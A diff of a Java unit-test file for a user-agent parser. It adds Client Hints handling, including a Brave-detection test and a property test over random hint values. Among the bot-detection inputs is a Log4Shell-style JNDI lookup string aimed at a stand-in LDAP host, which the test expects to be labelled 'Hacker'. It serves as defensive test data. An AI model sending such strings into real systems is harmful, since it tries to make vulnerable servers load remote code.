@@ -3,11 +3,13 @@ package io.millrace.streams.enrich;
 import static org.assertj.core.api.Assertions.assertThat;
 import static org.assertj.core.api.Assertions.assertThatCode;
 
+import io.millrace.model.ClientHints;
 import io.millrace.streams.judge.BotRule;
 import net.jqwik.api.ForAll;
 import net.jqwik.api.Property;
 import net.jqwik.api.constraints.NotBlank;
 import net.jqwik.api.constraints.StringLength;
+import org.junit.jupiter.api.Test;
 import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.CsvSource;
 
@@ -28,7 +30,12 @@ class YauaaAgentParserTest {
         "Instagram 3.0.4 Android (8/2.2.1; 240dpi; 480x800; HTC/verizon_wwe; ADR6400L; mecha; mecha; en_US) | Phone | Instagram | Android",
       })
   void peopleHaveADevice(String userAgent, String device, String browser, String system) {
-    assertThat(PARSER.parse(userAgent)).isEqualTo(Agent.person(device, browser, system));
+    Agent agent = PARSER.parse(userAgent, ClientHints.NONE);
+
+    assertThat(agent.deviceClass()).isEqualTo(device);
+    assertThat(agent.browser()).isEqualTo(browser);
+    assertThat(agent.operatingSystem()).isEqualTo(system);
+    assertThat(agent.bot()).isEmpty();
   }
 
   @ParameterizedTest
@@ -51,11 +58,44 @@ class YauaaAgentParserTest {
         "${jndi:ldap://shop.example/x} | Hacker",
       })
   void programsAreBots(String userAgent, String name) {
-    assertThat(PARSER.parse(userAgent)).isEqualTo(Agent.bot(BotRule.AGENT_ANALYSIS, name));
+    assertThat(PARSER.parse(userAgent, ClientHints.NONE))
+        .isEqualTo(Agent.bot(BotRule.AGENT_ANALYSIS, name));
+  }
+
+  @Test
+  void hintsTellWhatTheUserAgentNoLongerDoes() {
+    String chrome =
+        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36";
+    var brave =
+        new ClientHints(
+            "\"Chromium\";v=\"142\", \"Brave\";v=\"142\", \"Not_A Brand\";v=\"99\"",
+            "",
+            "?0",
+            "\"Windows\"",
+            "\"15.0.0\"",
+            "");
+
+    assertThat(PARSER.parse(chrome, ClientHints.NONE))
+        .isEqualTo(Agent.person("Desktop", "Chrome", "142", "Windows", ""));
+    assertThat(PARSER.parse(chrome, brave.plausible()))
+        .isEqualTo(Agent.person("Desktop", "Brave", "142", "Windows", "11"));
+  }
+
+  @Property(tries = 200)
+  void understandsAnyPlausibleHints(
+      @ForAll @StringLength(max = 60) String brand,
+      @ForAll @StringLength(max = 30) String version,
+      @ForAll @StringLength(max = 60) String text) {
+    String list = '"' + brand + "\";v=\"" + version + '"';
+    var hints =
+        new ClientHints(list, list + ", " + list, "?1", '"' + text + '"', text, '"' + text + '"');
+
+    assertThatCode(() -> PARSER.parse("Mozilla/5.0 (Linux; Android 10; K)", hints.plausible()))
+        .doesNotThrowAnyException();
   }
 
   @Property(tries = 200)
   void understandsAnyText(@ForAll @NotBlank @StringLength(max = 80) String text) {
-    assertThatCode(() -> PARSER.parse(text)).doesNotThrowAnyException();
+    assertThatCode(() -> PARSER.parse(text, ClientHints.NONE)).doesNotThrowAnyException();
   }
 }
